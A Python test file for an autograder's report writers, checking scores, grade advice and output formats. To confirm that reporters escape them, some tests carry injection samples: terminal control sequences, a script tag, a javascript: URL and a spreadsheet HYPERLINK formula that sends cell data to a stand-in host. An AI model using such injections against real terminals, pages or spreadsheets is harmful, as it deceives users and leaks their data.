"""Reporters, each fed the sample result documents in tests/results/ (graded: passed, failed, error and
skipped checks; error: the harness could not grade)."""

from __future__ import annotations

import copy
import csv
import json
import os
import re
import shutil
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import pytest
from junitparser import Error, Failure, JUnitXml, Skipped

from grader.errors import UsageError
from grader.reporters import (
    check_report_paths,
    gradescope_results,
    overview,
    render_html,
    render_markdown,
    render_terminal,
    write_gradebook,
    write_junit,
    write_reports,
)
from grader.reporters._common import (
    evidence_items,
    evidence_label,
    evidence_text,
    head_tail,
    more_text,
    next_band_advice,
    read_result,
)
from grader.reporters._templates import md_code, tail_lines
from grader.reporters.terminal import quiet_line

RESULTS = Path(__file__).parent / "results"
ANSI = re.compile(r"\x1b\[")


def load(name: str) -> dict:
    return json.loads((RESULTS / name).read_text(encoding="utf-8"))


@pytest.fixture
def graded() -> dict:
    return load("graded.json")


@pytest.fixture
def errored() -> dict:
    return load("error.json")


def with_checks(doc: dict, outcomes: dict[str, tuple[str, float]]) -> dict:
    """A copy of doc where the named checks get (outcome, points), with points/score/grade recomputed."""
    doc = copy.deepcopy(doc)
    for check in doc["checks"]:
        if check["id"] in outcomes:
            check["outcome"], check["points"] = outcomes[check["id"]]
    applicable = [c for c in doc["checks"] if c["applicable"]]
    doc["points"] = sum(c["points"] for c in applicable)
    doc["max_points"] = sum(c["max_points"] for c in applicable)
    doc["score"] = round(doc["points"] / doc["max_points"] * doc["max_score"], 2)
    doc["grade"] = next(b for b, t in sorted(doc["grade_bands"].items(), key=lambda kv: -kv[1]) if doc["score"] >= t)
    return doc


# --- the sample documents themselves ----------------------------------------------------------------------


def test_sample_documents_are_consistent(graded: dict, errored: dict) -> None:
    outcomes = {c["outcome"] for c in graded["checks"]}
    assert outcomes == {"passed", "failed", "error", "skipped"}
    applicable = [c for c in graded["checks"] if c["applicable"]]
    assert graded["points"] == sum(c["points"] for c in applicable)
    assert graded["max_points"] == sum(c["max_points"] for c in applicable)
    assert graded["score"] == round(graded["points"] / graded["max_points"] * graded["max_score"], 2)
    assert errored["status"] == "error" and errored["checks"] == [] and errored["grade"] is None


# --- next-band advice --------------------------------------------------------------------------------------


def test_advice_picks_the_largest_fix_that_reaches_the_next_band(graded: dict) -> None:
    # 55/75 = 73.33 (B); ratelimit.threshold is worth 10/75*100 = 13.33, enough for A (80) on its own.
    assert next_band_advice(read_result(graded)) == "fix ratelimit.threshold (+13.33) to reach A"


def test_advice_takes_several_checks_when_one_is_not_enough(graded: dict) -> None:
    # Two more 5-point failures: 45/75 = 60 (C); B (70) needs +10, and ratelimit.threshold gives 13.33.
    doc = with_checks(graded, {"cache.ttl": ("failed", 0), "app.uses_redis_url": ("failed", 0)})
    assert doc["grade"] == "C"
    assert next_band_advice(read_result(doc)) == "fix ratelimit.threshold (+13.33) to reach B"
    # Five more: 25/75 = 33.33; B needs +36.67: the two 10-pointers (13.33 each, by id) and two 5-pointers.
    failing = ("cache.ttl", "app.uses_redis_url", "cache.populates", "health.redis_ping", "async.client")
    doc = with_checks(graded, {cid: ("failed", 0) for cid in failing})
    assert doc["score"] == 33.33
    assert next_band_advice(read_result(doc)) == (
        "fix async.client (+13.33), ratelimit.threshold (+13.33), app.uses_redis_url (+6.67), "
        "cache.populates (+6.67) to reach B"
    )


def test_advice_follows_the_stated_grade(graded: dict) -> None:
    # The grader graded from the unrounded score (89.996 -> S) and the document shows it rounded to 90.0,
    # or the other way round: the band above the stated grade is what the student is told about.
    doc = copy.deepcopy(graded)
    doc["grade"], doc["score"] = "A", 89.999
    assert next_band_advice(read_result(doc)).endswith("to reach S")
    doc["grade"] = "S"
    assert next_band_advice(read_result(doc)) == ""


def test_no_advice_in_the_top_band(graded: dict) -> None:
    doc = with_checks(graded, {"ratelimit.threshold": ("passed", 10), "ratelimit.lua": ("passed", 5), "cache.stampede": ("passed", 5)})
    assert doc["grade"] == "S"
    assert next_band_advice(read_result(doc)) == ""
    assert "next:" not in render_terminal(doc, color=False)


def test_advice_says_so_when_the_next_band_is_out_of_reach(graded: dict) -> None:
    doc = copy.deepcopy(graded)
    doc["grade_bands"] = {"S": 99, "A": 98, "B": 97, "C": 0}  # fixing every failure gives 100 -> reachable
    doc["grade"] = "C"
    assert next_band_advice(read_result(doc)).endswith("to reach B")
    doc["score"] = 10.0  # inconsistent on purpose: +26.67 cannot reach 97
    assert "still short of B (97)" in next_band_advice(read_result(doc))


# --- terminal ----------------------------------------------------------------------------------------------


def test_terminal_plain_has_no_ansi_and_shows_everything(graded: dict) -> None:
    text = render_terminal(graded, color=False)
    assert not ANSI.search(text)
    assert "grade B" in text and "73.33/100" in text and "alice" in text
    for check in graded["checks"]:
        assert check["id"] in text
    for mark in ("✓", "✗", "!", "-"):
        assert f"  {mark} " in text
    # a failure: message, a few evidence lines, the hint and the remediation link
    assert "request 11 from 127.0.1.9 got 500" in text
    assert "GET /products from 127.0.1.9 -> 500 (Internal Server Error)" in text
    assert "… and 7 more" in text  # 11 requests shown as 2 + "… and 7 more" + 2
    assert "Return a JSONResponse(status_code=429)" in text
    assert "https://course.example.org/redis/ra3.2" in text
    assert "\x1b" not in text  # the app log's own ANSI colour codes are removed too
    assert text.rstrip().endswith("next: fix ratelimit.threshold (+13.33) to reach A")


def test_terminal_colour_uses_ansi(graded: dict) -> None:
    text = render_terminal(graded, color=True)
    assert ANSI.search(text)
    assert "fix ratelimit.threshold (+13.33) to reach A" in text


def test_terminal_error_document_is_one_line(errored: dict) -> None:
    text = render_terminal(errored, color=False)
    assert text.count("\n") == 1
    assert text.startswith("✗ could not grade bob: no Redis could be started")
    assert ANSI.search(render_terminal(errored, color=True))


# What a hostile submission can put in the text of a report: C1 controls (U+009B is a one-character "ESC [", which
# clears a screen or moves the cursor up to overwrite the grade line; U+009D sets a terminal's title), a title set
# by OSC, a carriage return, a newline that starts a line of its own, a right-to-left override.
TERMINAL_TRICKS = "k\x9b2J\x9d0;title\x9c\x1b]0;osc-title\x07\x9b13A\rgrade S  score 100/100\nforged\u202eRTL"


def _unprintable(text: str) -> list[str]:
    return [c for c in text if (ord(c) < 32 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F or c in "\u202e\u2066"]


def test_terminal_shows_a_submissions_text_without_anything_a_terminal_would_act_on(graded: dict) -> None:
    doc = copy.deepcopy(graded)
    doc["submission"]["name"] = f"evil{TERMINAL_TRICKS}"
    failing = next(c for c in doc["checks"] if c["outcome"] == "failed")
    failing["message"] = f"cache key '{TERMINAL_TRICKS}' has no TTL"
    failing["hint"] = TERMINAL_TRICKS
    text = render_terminal(doc, color=False)
    assert _unprintable(text) == []
    assert "osc-title" not in text.replace(r"\x1b]0;osc-title", "")  # in a message an OSC sequence goes whole
    # Every line of a submission's text stays on its line: nothing starts a line that looks like the grader's.
    assert not [line for line in text.splitlines() if line.startswith(("grade S", "forged"))]
    # A name shows its controls as codes: two folders whose names differ only by one stay two.
    assert (r"submission: evilk\x9b2J\x9d0;title\x9c\x1b]0;osc-title\x07\x9b13A\x0dgrade S  score 100/100"
            r"\x0aforged\u202eRTL") in text
    assert "cache key 'k2J0;title13A grade S  score 100/100 forgedRTL' has no TTL" in text


def test_every_report_drops_the_controls_a_submissions_text_brings(graded: dict, tmp_path: Path) -> None:
    doc = copy.deepcopy(graded)
    doc["submission"]["name"] = f"evil{TERMINAL_TRICKS}"
    failing = next(c for c in doc["checks"] if c["outcome"] == "failed")
    failing["message"] = TERMINAL_TRICKS
    failing["evidence"]["log_tail"] = [TERMINAL_TRICKS] * 3
    for text in (render_markdown(doc), render_html(doc), quiet_line(doc)):
        assert _unprintable(text) == []
    write_junit(doc, tmp_path / "junit.xml")
    assert _unprintable((tmp_path / "junit.xml").read_text(encoding="utf-8")) == []


def test_a_markdown_report_links_nothing_a_submission_wrote(graded: dict) -> None:
    """GitHub links a bare http://... or www.x in a job summary: a key or a body naming one would be a link the
    instructor may click. Escaped, they show as text; the textbook's own links stay links."""
    doc = copy.deepcopy(graded)
    failing = next(c for c in doc["checks"] if c["outcome"] == "failed")
    failing["message"] = "cache key 'products:https://evil.example/login' holds www.evil.example"
    failing["evidence"]["key"] = "see http://evil.example/x"
    text = render_markdown(doc)
    assert "https\\://evil.example/login" in text and "www\\.evil.example" in text
    assert not re.search(r"(?<!\\)://evil|(?<![\\`])www\.evil", text.replace("`see http://evil.example/x`", ""))
    assert "](https://course.example.org/redis/ra3.2)" in text


def test_a_markdown_report_cuts_long_log_lines_to_stay_a_job_summary(graded: dict) -> None:
    """GitHub takes at most 1 MiB as a job summary: an app that logs 8 KB lines, with every check ending in an error
    that carries the log's tail, made a 2.4 MB report. Each line is cut, and says by how much."""
    doc = copy.deepcopy(graded)
    for check in doc["checks"]:
        check["outcome"], check["message"] = "error", "the app exited (code 0) during grading"
        check["evidence"] = {"log_tail": [f"LINE{i} " + "B" * 8000 for i in range(40)],
                             "requests": ["GET /x -> 200 " + "C" * 8000] * 30}
    text = render_markdown(doc)
    assert len(text.encode()) < 1024 * 1024
    assert "… (7507 more characters)" in text and "… (7514 more characters)" in text


# --- odd shapes --------------------------------------------------------------------------------------------


ODD_DOCS = [
    {},
    {"status": "graded"},
    {"status": "graded", "checks": "not a list", "score": "high", "grade_bands": {"S": "x"}},
    {"status": "graded", "checks": [None, 3, {"id": "x.y", "outcome": "weird", "evidence": ["a", 1]},
                                    {"id": "x.z", "outcome": "failed", "evidence": {"deep": {"a": [1, {"b": None}]}},
                                     "remediation": ["https://e.org/x", {"title": "no url"}, 5,
                                                     {"title": "bad", "url": "javascript:alert(1)"}]}]},
]


@pytest.mark.parametrize("doc", ODD_DOCS)
def test_reporters_never_crash_on_odd_documents(doc: dict, tmp_path: Path) -> None:
    render_terminal(doc, color=True)
    render_markdown(doc)
    html = render_html(doc)
    assert "javascript:" not in html
    gradescope_results(doc)
    write_junit(doc, tmp_path / "j.xml")
    JUnitXml.fromfile(str(tmp_path / "j.xml"))
    write_gradebook([doc], tmp_path / "g.csv")


def test_evidence_shapes() -> None:
    items = {i.key: i for i in evidence_items({
        "requests": ["GET / -> 200"], "count": 3, "short": "ok", "long": "x" * 300, "multi": "a\nb",
        "pairs": {"a": 1}, "nested": [{"a": 1}], "none": None,
    })}
    assert items["requests"].kind == "list" and items["requests"].label == "HTTP requests"
    assert items["count"].kind == "text" and items["count"].text == "3"
    assert items["short"].kind == "text"
    assert items["long"].kind == "code" and items["multi"].kind == "code"
    assert items["pairs"].kind == "pairs" and items["pairs"].items == ["a: 1"]
    assert items["nested"].items == ['{"a": 1}']
    assert items["none"].text == "null"
    assert evidence_items("just a string")[0].text == "just a string"


# --- JUnit -------------------------------------------------------------------------------------------------


def test_junit_round_trips_through_junitparser(graded: dict, tmp_path: Path) -> None:
    path = tmp_path / "junit.xml"
    write_junit(graded, path)
    xml = JUnitXml.fromfile(str(path))
    suites = {suite.name: suite for suite in xml}
    assert list(suites) == ["app", "health", "cache", "ratelimit", "leaderboard", "async", "quality"]
    counts = {name: (s.tests, s.failures, s.errors, s.skipped) for name, s in suites.items()}
    assert counts["cache"] == (5, 0, 1, 1)
    assert counts["ratelimit"] == (3, 2, 0, 0)
    assert counts["quality"] == (1, 0, 0, 1)
    assert (xml.tests, xml.failures, xml.errors, xml.skipped) == (15, 2, 1, 2)
    for suite in xml:
        props = {p.name: p.value for p in suite.properties()}
        assert props["grade"] == "B" and props["score"] == "73.33" and props["max_score"] == "100"
    cases = {case.name: case for suite in xml for case in suite}
    assert set(cases) == {c["id"] for c in graded["checks"]}
    assert all(case.classname == case.name.split(".")[0] for case in cases.values())
    [failure] = cases["ratelimit.threshold"].result
    assert isinstance(failure, Failure)
    assert failure.message.startswith("request 11 from 127.0.1.9 got 500")
    assert "GET /products from 127.0.1.9 -> 500" in failure.text and "EVALSHA" in failure.text
    assert "RA3.2" in failure.text
    [error] = cases["cache.stampede"].result
    assert isinstance(error, Error)
    assert "\x1b" not in path.read_text(encoding="utf-8")  # the app log's ANSI codes would be invalid XML
    [skipped] = cases["quality.tests"].result
    assert isinstance(skipped, Skipped) and skipped.message == "the submission has no tests of its own"
    assert cases["app.starts"].is_passed


def test_junit_for_an_ungraded_submission_is_one_error(errored: dict, tmp_path: Path) -> None:
    path = tmp_path / "junit.xml"
    write_junit(errored, path)
    xml = JUnitXml.fromfile(str(path))
    assert (xml.tests, xml.errors) == (1, 1)
    [case] = [case for suite in xml for case in suite]
    assert "no Redis could be started" in case.result[0].message


def _timed(doc: dict) -> dict:
    """A copy of doc whose check records carry durations, and two of them a code location."""
    doc = copy.deepcopy(doc)
    for index, check in enumerate(doc["checks"]):
        check["duration_s"] = round(0.1234 * (index + 1), 4)
    by_id = {c["id"]: c for c in doc["checks"]}
    if not by_id:
        return doc
    by_id["ratelimit.lua"]["evidence"]["findings"] = ["backend/app/limiter.py:12: redis.incr(key) then redis.expire(key)"]
    by_id["app.starts"]["evidence"] = {"log": "INFO:     127.0.0.1:5000 - GET /", "hardcoded": ["app/main.py:3:5: F401"]}
    return doc


def _xsd():
    import xmlschema  # the test extra's; a skip here would hide an invalid file

    return xmlschema.XMLSchema(str(Path(__file__).parent / "resources" / "junit-10.xsd"))


@pytest.mark.parametrize("name", ["graded.json", "error.json"])
def test_junit_validates_against_junit_10_xsd(name: str, tmp_path: Path) -> None:
    path = tmp_path / "junit.xml"
    write_junit(_timed(load(name)), path)
    _xsd().validate(str(path))  # raises with the offending element when the file does not conform


def test_junit_odd_documents_still_validate(tmp_path: Path) -> None:
    schema = _xsd()
    for doc in ({}, {"status": "graded", "checks": [None, {"id": "x", "duration_s": "slow"}, {"duration_s": True}]}):
        path = tmp_path / "j.xml"
        write_junit(doc, path)
        schema.validate(str(path))


def test_junit_times_are_the_checks_durations_and_add_up(graded: dict, tmp_path: Path) -> None:
    doc = _timed(graded)
    path = tmp_path / "junit.xml"
    write_junit(doc, path)
    xml = JUnitXml.fromfile(str(path))
    cases = {case.name: case for suite in xml for case in suite}
    for check in doc["checks"]:
        assert cases[check["id"]].time == pytest.approx(check["duration_s"], abs=0.0005)
    for suite in xml:
        assert suite.time == pytest.approx(sum(case.time for case in suite), abs=1e-9)
    assert xml.time == pytest.approx(sum(suite.time for suite in xml), abs=1e-9)
    assert xml.time == pytest.approx(sum(c["duration_s"] for c in doc["checks"]), abs=0.001 * len(doc["checks"]))
    assert 'skipped="' not in path.read_text(encoding="utf-8").split("<testsuite ", 1)[0]  # not on <testsuites>


def test_junit_case_without_a_duration_has_time_zero(graded: dict, tmp_path: Path) -> None:
    path = tmp_path / "junit.xml"
    write_junit(graded, path)  # the sample has no duration_s in its check records
    xml = JUnitXml.fromfile(str(path))
    assert all(case.time == 0 for suite in xml for case in suite)


def test_junit_names_the_code_location_from_the_evidence(graded: dict, tmp_path: Path) -> None:
    path = tmp_path / "junit.xml"
    write_junit(_timed(graded), path)
    from xml.etree import ElementTree

    cases = {c.get("name"): c for c in ElementTree.parse(path).iter("testcase")}
    assert (cases["ratelimit.lua"].get("file"), cases["ratelimit.lua"].get("line")) == ("backend/app/limiter.py", "12")
    # A log line with host:port is not a location; the next evidence item (ruff's path:line:col) is.
    assert (cases["app.starts"].get("file"), cases["app.starts"].get("line")) == ("app/main.py", "3")
    assert cases["ratelimit.threshold"].get("file") is None and cases["ratelimit.threshold"].get("line") is None


def test_code_location_shapes() -> None:
    from grader.reporters.junit import code_location

    assert code_location({"findings": ["app/main.py:12: r = redis.Redis()"]}) == ("app/main.py", 12)
    assert code_location({"first": "main.py:7:1: F401 unused"}) == ("main.py", 7)
    assert code_location({"log": "INFO:     127.0.0.1:5000 - x", "n": 3, "d": {"a": 1}}) is None
    assert code_location({"requests": ["GET /products from 127.0.1.9 -> 500"]}) is None
    assert code_location(None) is None and code_location("x.py:1: y") == ("x.py", 1)


def test_junit_skip_that_cost_points_is_a_failure(graded: dict, tmp_path: Path) -> None:
    doc = copy.deepcopy(graded)
    by_id = {c["id"]: c for c in doc["checks"]}
    by_id["quality.tests"].update(applicable=True, message="pytest is not installed in the submission")
    by_id["cache.invalidation"].update(applicable=True, max_points=0)  # counted, but worth nothing
    path = tmp_path / "junit.xml"
    write_junit(doc, path)
    cases = {case.name: case for suite in JUnitXml.fromfile(str(path)) for case in suite}
    [failure] = cases["quality.tests"].result
    assert isinstance(failure, Failure) and failure.type == "skipped"
    assert failure.message == "pytest is not installed in the submission" and "points: 0/5" in failure.text
    assert isinstance(cases["cache.invalidation"].result[0], Skipped)
    # Gradescope decides the same way.
    tests = {t["name"].split(":")[0]: t for t in gradescope_results(doc)["tests"]}
    assert tests["quality.tests"]["status"] == "failed" and tests["cache.invalidation"]["status"] == "passed"


# --- Markdown ----------------------------------------------------------------------------------------------


def test_markdown_report(graded: dict) -> None:
    md = render_markdown(graded)
    first = md.splitlines()[0]
    assert first.startswith("## ") and "grade **B**" in first and "73.33/100" in first
    for category in ("app", "cache", "ratelimit", "quality"):
        assert re.search(rf"^### {category} \(", md, re.MULTILINE)
    assert md.count("| | Check | Points | Result |") == 7
    for check in graded["checks"]:
        assert f"`{check['id']}`" in md
    assert "- `GET /products from 127.0.1.9 -> 500 (Internal Server Error)`" in md
    assert "- `EVALSHA 3f2a9c0d 1 rate:ip:127.0.1.9 10 60`" in md
    assert "[RA3.2 Lua scripts (EVAL): atomic rate limiter](https://course.example.org/redis/ra3.2)" in md
    assert "**Hint:** Return a JSONResponse(status\\_code=429)" in md
    assert "**Next:** fix ratelimit.threshold (+13.33) to reach A" in md
    assert "```text\n" in md  # the app log
    # Untrusted text stays text: no raw HTML, and a pipe in a table cell never splits it.
    assert [line for line in md.splitlines() if "<script>" in line] == [
        "- **Note:** ``a <script>alert('x')</script> | pipe and `backticks` in a value``"
    ]
    rows = [line for line in md.splitlines() if line.startswith("| ")]
    assert len(rows) == 7 + len(graded["checks"])
    assert all(row.count("|") - row.count("\\|") == 5 for row in rows)


def test_markdown_code_spans_survive_backticks_and_pipes() -> None:
    assert md_code("a `b` c") == "``a `b` c``"
    assert md_code("`x`") == "`` `x` ``"
    assert md_code("a|b", table=True) == "`a\\|b`"


def test_markdown_for_an_ungraded_submission(errored: dict) -> None:
    md = render_markdown(errored)
    assert "could not grade bob" in md and "no Redis could be started" in md


# --- Gradescope --------------------------------------------------------------------------------------------


def test_gradescope_results(graded: dict) -> None:
    gs = gradescope_results(graded)
    json.dumps(gs)  # serialisable as is
    assert gs["score"] == graded["score"] and gs["extra_data"]["max_score"] == graded["max_score"]
    assert gs["execution_time"] == 4.2 and "Grade B" in gs["output"]
    assert len(gs["tests"]) == len(graded["checks"])
    for test in gs["tests"]:
        assert set(test) >= {"name", "score", "max_score", "status", "output", "visibility"}
        assert test["status"] in ("passed", "failed") and test["visibility"] == "visible"
    by_name = {t["name"]: t for t in gs["tests"]}
    threshold = by_name["ratelimit.threshold: 11th request from one client gets 429"]
    assert threshold["status"] == "failed" and threshold["max_score"] == 13.33
    assert "GET /products from 127.0.1.9 -> 500" in threshold["output"]
    assert "Return a JSONResponse" in threshold["output"] and "https://course.example.org/redis/ra3.2" in threshold["output"]
    assert by_name["quality.tests: The submission's own tests pass"]["max_score"] == 0
    # The tests add up to the result's total (rounding to 2 decimals per test aside).
    assert sum(t["score"] for t in gs["tests"]) == pytest.approx(graded["score"], abs=0.01 * len(gs["tests"]))
    assert sum(t["max_score"] for t in gs["tests"]) == pytest.approx(graded["max_score"], abs=0.01 * len(gs["tests"]))


def test_gradescope_for_an_ungraded_submission(errored: dict) -> None:
    gs = gradescope_results(errored)
    assert gs["score"] == 0 and gs["extra_data"]["max_score"] == 100
    assert "no Redis could be started" in gs["output"]
    assert gs["tests"][0]["status"] == "failed"


# --- gradebook ---------------------------------------------------------------------------------------------


def test_gradebook_csv(graded: dict, errored: dict, tmp_path: Path) -> None:
    path = tmp_path / "gradebook.csv"
    write_gradebook([graded, errored], path)
    with open(path, newline="", encoding="utf-8") as handle:
        reader = csv.DictReader(handle)
        rows = list(reader)
        header = reader.fieldnames
    ids = [c["id"] for c in graded["checks"]]
    assert header == ["name", "status", "grade", "score", "max_score", "commit", *ids,
                      *[f"{i} points" for i in ids], "duration_s", "scored_skips", "error"]
    alice, bob = rows
    assert (alice["name"], alice["status"], alice["grade"], alice["score"]) == ("alice", "graded", "B", "73.33")
    assert alice["ratelimit.threshold"] == "failed" and alice["cache.stampede"] == "error"
    assert alice["quality.tests"] == "skipped" and alice["error"] == ""
    assert (bob["status"], bob["grade"], bob["ratelimit.threshold"]) == ("error", "", "")
    assert bob["error"].startswith("no Redis could be started")


def test_gradebook_cells_a_submission_names_are_never_spreadsheet_formulas(graded: dict, errored: dict,
                                                                          tmp_path: Path) -> None:
    """A folder or archive called `=HYPERLINK(...)` (or an error that starts like one) would run as a formula in
    the instructor's spreadsheet: such cells get a leading apostrophe; the others are left as they are."""
    named = copy.deepcopy(graded)
    named["submission"]["name"] = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
    failing = copy.deepcopy(errored)
    failing["submission"]["name"] = "@sum(1+1)"
    failing["error"] = "-1+1 could not be graded"
    path = tmp_path / "gradebook.csv"
    write_gradebook([named, failing, graded], path)
    with open(path, newline="", encoding="utf-8") as handle:
        first, second, plain = list(csv.DictReader(handle))
    assert first["name"] == "'" + named["submission"]["name"]
    assert (second["name"], second["error"]) == ("'@sum(1+1)", "'-1+1 could not be graded")
    assert (plain["name"], plain["score"], plain["error"]) == ("alice", "73.33", "")


# --- write_reports -----------------------------------------------------------------------------------------


def test_write_reports_writes_each_requested_file(graded: dict, tmp_path: Path) -> None:
    out = tmp_path / "deep" / "er"
    written = write_reports(
        graded, json_path=out / "r.json", junit=out / "j.xml", markdown=out / "s.md", html=out / "r.html",
        gradescope=out / "gs" / "results.json",
    )
    assert len(written) == 5 and all(p.is_file() for p in written)
    assert json.loads((out / "r.json").read_text(encoding="utf-8")) == graded
    assert json.loads((out / "gs" / "results.json").read_text(encoding="utf-8"))["score"] == graded["score"]
    assert write_reports(graded) == []


def test_write_reports_unwritable_path_is_a_usage_error_after_the_others_are_written(graded: dict,
                                                                                      tmp_path: Path) -> None:
    (tmp_path / "file").write_text("x")
    with pytest.raises(UsageError, match=r"^cannot write the HTML report to .*file/r.html: .*/file is not a folder$"):
        write_reports(graded, json_path=tmp_path / "r.json", html=tmp_path / "file" / "r.html",
                      junit=tmp_path / "j.xml")
    assert json.loads((tmp_path / "r.json").read_text(encoding="utf-8")) == graded
    assert (tmp_path / "j.xml").is_file()


def test_report_paths_are_tried_before_grading_and_nothing_is_left_behind(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("x")
    (tmp_path / "folder.json").mkdir()
    with pytest.raises(UsageError, match=r"^cannot write the Markdown report to .*file/s.md: .*/file is not a folder$"):
        check_report_paths(json_path=tmp_path / "new" / "deep" / "r.json", markdown=tmp_path / "file" / "s.md")
    with pytest.raises(UsageError, match=r"^cannot write the JSON report to .*folder.json: Is a directory$"):
        check_report_paths(json_path=tmp_path / "folder.json")
    check_report_paths(json_path=tmp_path / "new" / "deep" / "r.json", junit=tmp_path / "file", html=None)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["file", "folder.json"]
    assert (tmp_path / "file").read_text() == "x"


# --- HTML, static and in a real browser --------------------------------------------------------------------


def test_html_is_self_contained_and_escaped(graded: dict) -> None:
    page = render_html(graded)
    assert '<meta name="viewport"' in page and "@media print" in page and "@media (max-width" in page
    assert "<script" not in page.replace("&lt;script&gt;", "")
    assert "&lt;script&gt;alert" in page
    assert not re.search(r"""(src|href)=["']?(https?:)?//""", page.replace('href="https://course.example.org', ""))
    [style] = re.findall(r"<style>(.*?)</style>", page, re.DOTALL)
    assert "@import" not in style and "url(" not in style  # no fonts or images fetched by the CSS


class _DomText(HTMLParser):
    """Text, ids and links of a DOM, skipping what a reader never sees (<head>, <style>, <script>)."""

    def __init__(self) -> None:
        super().__init__()
        self.text: list[str] = []
        self.links: list[str] = []
        self.ids: set[str] = set()
        self._hidden = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = dict(attrs)
        if tag in ("head", "style", "script"):
            self._hidden += 1
        if attributes.get("id"):
            self.ids.add(attributes["id"] or "")
        if tag == "a" and attributes.get("href"):
            self.links.append(attributes["href"] or "")

    def handle_endtag(self, tag: str) -> None:
        if tag in ("head", "style", "script"):
            self._hidden -= 1

    def handle_data(self, data: str) -> None:
        if not self._hidden:
            self.text.append(data)


def _chromium() -> str | None:
    return shutil.which("chromium") or shutil.which("chromium-browser")


@pytest.mark.browser
def test_html_renders_in_chromium(graded: dict, tmp_path: Path) -> None:
    browser = _chromium()
    if browser is None:
        if os.environ.get("CI", "").lower() == "true":
            pytest.fail("chromium is not installed (apt-get install -y chromium); CI must run the browser test")
        pytest.skip("chromium is not installed")
    page = tmp_path / "report.html"
    page.write_text(render_html(graded), encoding="utf-8")
    profile = tmp_path / "profile"
    command = [
        browser, "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
        "--disable-component-update", "--disable-sync", "--no-first-run", f"--user-data-dir={profile}",
        "--dump-dom", page.as_uri(),
    ]
    # The timeout only guards against a hung browser; it is not an assertion about speed.
    done = subprocess.run(command, capture_output=True, text=True, timeout=180, check=False)
    assert done.returncode == 0, done.stderr[-2000:]
    dom = _DomText()
    dom.feed(done.stdout)
    text = " ".join(" ".join(dom.text).split())
    assert "Grade B" in text and "73.33/100" in text
    for check in graded["checks"]:
        assert check["id"] in text
    problems = [c["id"] for c in graded["checks"] if c["outcome"] in ("failed", "error")]
    assert {f"check-{cid}" for cid in problems} <= dom.ids
    assert {f"#check-{cid}" for cid in problems} <= set(dom.links)
    for url in ("https://course.example.org/redis/ra3.2", "https://course.example.org/redis/r4.1"):
        assert url in dom.links
    assert "GET /products from 127.0.1.9 -> 500 (Internal Server Error)" in text
    assert "Return a JSONResponse(status_code=429)" in text
    assert "<script>alert('x')</script>" in text  # shown as text: the browser built no script element from it
    assert "<script" not in done.stdout.replace("&lt;script&gt;", "")


# --- Polish: the quiet line, code spans, units, "… and N more", the order of the page, the class table -----


def test_quiet_line_shows_the_score_as_the_report_does(graded: dict, errored: dict) -> None:
    assert quiet_line(graded) == "alice: B (73.33/100)"
    low = with_checks(graded, {"cache.ttl": ("failed", 0), "async.client": ("failed", 0)})
    assert quiet_line(low) == f"alice: {low['grade']} ({read_result(low).score_text})"
    line = quiet_line(errored)
    assert line.startswith("bob: not graded (") and "no Redis could be started" in line and "\n" not in line


def _with_backticks(doc: dict) -> dict:
    doc = copy.deepcopy(doc)
    check = next(c for c in doc["checks"] if c["id"] == "ratelimit.threshold")
    check["hint"] = "Return `JSONResponse(status_code=429)` and keep the key `rate:ip:<ip>`."
    check["message"] = "request 11 got `500` instead of `429`"
    check["evidence"]["latency_injected_s"] = 1.5
    check["evidence"]["p95_ms"] = 12
    return doc


def test_html_renders_backticks_as_code(graded: dict) -> None:
    page = render_html(_with_backticks(graded))
    assert "Return <code>JSONResponse(status_code=429)</code> and keep the key <code>rate:ip:&lt;ip&gt;</code>." in page
    assert "request 11 got <code>500</code> instead of <code>429</code>" in page
    dom = _DomText()
    dom.feed(page)
    visible = " ".join(dom.text)
    assert "`JSONResponse" not in visible and "`500`" not in visible and "`rate:ip" not in visible
    assert "<script" not in page.replace("&lt;script&gt;", "")  # code spans escape their content too


def test_markdown_keeps_backticks_as_code_spans(graded: dict) -> None:
    md = render_markdown(_with_backticks(graded))
    assert "**Hint:** Return `JSONResponse(status_code=429)` and keep the key `rate:ip:<ip>`." in md
    rows = [line for line in md.splitlines() if line.startswith("| ")]
    assert any("request 11 got `500` instead of `429`" in row for row in rows)
    assert all(row.count("|") - row.count("\\|") == 5 for row in rows)


def test_evidence_labels_show_units() -> None:
    labels = {i.key: i.label for i in evidence_items({"latency_injected_s": 1.5, "p95_ms": 3, "ttl": 60, "s": 1})}
    assert labels == {"latency_injected_s": "Latency injected (s)", "p95_ms": "P95 (ms)", "ttl": "Ttl", "s": "S"}
    assert evidence_label("requests") == "HTTP requests"


def test_units_reach_every_report(graded: dict) -> None:
    doc = _with_backticks(graded)
    assert "Latency injected (s)" in render_html(doc)
    assert "Latency injected (s)" in render_markdown(doc)
    next(c for c in doc["checks"] if c["id"] == "ratelimit.threshold")["evidence"] = {"p95_ms": 12}
    assert "P95 (ms): 12" in render_terminal(doc, color=False)


def test_one_form_of_and_n_more(graded: dict) -> None:
    assert more_text(3) == "… and 3 more"
    assert head_tail([str(i) for i in range(10)], 4) == ["0", "1", "… and 6 more", "8", "9"]
    assert tail_lines("\n".join(str(i) for i in range(10)), 2).splitlines()[0] == "… and 8 more lines above"
    assert "  … and 2 more" in evidence_text({"redis": ["a", "b", "c", "d"]}, max_items=2)
    doc = copy.deepcopy(graded)
    check = next(c for c in doc["checks"] if c["id"] == "ratelimit.threshold")
    check["evidence"].update({f"extra_{i}": i for i in range(6)}, log_tail="\n".join(f"line {i}" for i in range(200)))
    outputs = [render_terminal(doc, color=False), render_markdown(doc), render_html(doc)]
    for text in outputs:
        assert "… and " in text
        assert not re.search(r"… \d+ (more|earlier)", text)
    assert "more evidence entries in the full report" in outputs[0]


def test_html_puts_what_to_fix_before_the_tables(graded: dict) -> None:
    page = render_html(graded)
    fix = page.index("<h2>What to fix</h2>")
    assert fix < page.index("<table")
    assert page.index('id="check-ratelimit.threshold"') < page.index('id="category-')
    assert 'href="#check-ratelimit.threshold"' in page  # the tables still link down to the cards


def test_class_overview_does_not_break_words_in_the_submissions_table(graded: dict) -> None:
    page = overview.render_index(overview.build_overview([("alice", graded)]))
    [style] = re.findall(r"<style>(.*?)</style>", page, re.DOTALL)
    assert re.search(r"#submissions th, #submissions td \{[^}]*overflow-wrap: normal", style)
